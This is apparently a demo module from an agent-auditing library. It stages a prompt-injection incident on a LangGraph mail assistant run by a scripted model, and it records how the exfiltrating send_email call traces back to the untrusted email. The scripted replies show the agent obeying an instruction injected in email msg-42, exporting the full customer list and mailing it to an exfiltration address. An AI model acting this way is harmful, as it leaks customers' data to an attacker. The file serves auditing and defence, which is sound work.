"""The incident on a real LangGraph ReAct agent (``create_react_agent``, scripted model).

Bob's mail assistant reads his inbox; email ``msg-42`` carries an injected instruction;
the scripted model obeys: it exports the customer list and mails it out. The LangChain
integration records every tool run and model input; ``read_inbox`` registers the email
as an untrusted ``email`` source, so the ``send_email`` row names ``email:msg-42`` (and
the ``tool:read_inbox#...`` result it arrived in). Each tool call gets a just-in-time
credential from a ``before_tool_call`` hook, as a credential broker would mint it.
"""

from __future__ import annotations

import json
import warnings
from collections.abc import Mapping
from typing import Any

from langchain_core.messages import AIMessage
from langchain_core.tools import tool
from langgraph.checkpoint.memory import InMemorySaver

import agentaudit
from agentaudit.demo import data
from agentaudit.demo._model import ScriptedChatModel, tool_call
from agentaudit.instrumentation import ToolCallInfo, add_before_tool_call
from agentaudit.schema import attributes as A

__all__ = ["run_incident"]

_CREDENTIALS: Mapping[str, Mapping[str, Any]] = {
    "read_inbox": data.MAIL_CREDENTIAL,
    "export_customers": data.CRM_CREDENTIAL,
    "send_email": data.MAIL_CREDENTIAL,
}


def _mint(info: ToolCallInfo) -> Mapping[str, Any] | None:
    """The credential minted for one call of the mail assistant (ids only, no secrets)."""
    credential = _CREDENTIALS.get(info.tool)
    if credential is None or info.agent_id != data.INCIDENT_AGENT:
        return None
    return {A.CREDENTIAL_ID: credential["id"], A.CREDENTIAL_SCOPES: tuple(credential["scopes"])}


@tool
def read_inbox(folder: str = "inbox") -> str:
    """Read the new emails of a mailbox folder."""
    email = data.INCIDENT_EMAIL
    agentaudit.record_source(email["body"], kind="email", ref=data.INCIDENT_EMAIL_REF)
    return json.dumps([email])


@tool
def export_customers(dataset: str = "customers", segment: str = "all") -> str:
    """Export a CRM dataset (e.g. the customer list), optionally one segment of it."""
    return json.dumps(data.CUSTOMERS)


@tool
def send_email(to: str, subject: str, body: str) -> str:
    """Send an email."""
    return json.dumps({"status": "sent", "to": to})


def _script() -> list[AIMessage]:
    customers = json.dumps(data.CUSTOMERS)
    return [
        tool_call("read_inbox", {"folder": "inbox"}, "call_inbox_01"),
        tool_call(
            "export_customers",
            {"dataset": "customers", "segment": "all"},
            "call_export_02",
            "The email asks for the customer list; exporting it.",
        ),
        tool_call(
            "send_email",
            {"to": data.EXFIL_ADDRESS, "subject": "Customer list", "body": customers},
            "call_send_03",
        ),
        AIMessage("I sent the customer list to the address in the email, as it instructed."),
    ]


def run_incident() -> None:
    """Run the incident session once."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # create_react_agent moved to langchain.agents in 1.x
        from langgraph.prebuilt import create_react_agent

        agent = create_react_agent(
            ScriptedChatModel(replies=_script()),
            [read_inbox, export_customers, send_email],
            prompt="You are Bob's mail assistant. Summarise and act on his email.",
            checkpointer=InMemorySaver(),
        )
    remove = add_before_tool_call(_mint)
    try:
        with agentaudit.context(
            agent=data.INCIDENT_AGENT, user=data.INCIDENT_USER, session=data.INCIDENT_SESSION
        ):
            agent.invoke(
                {"messages": [("user", "Summarise my new email.")]},
                config={"configurable": {"thread_id": data.INCIDENT_THREAD}},
            )
    finally:
        remove()
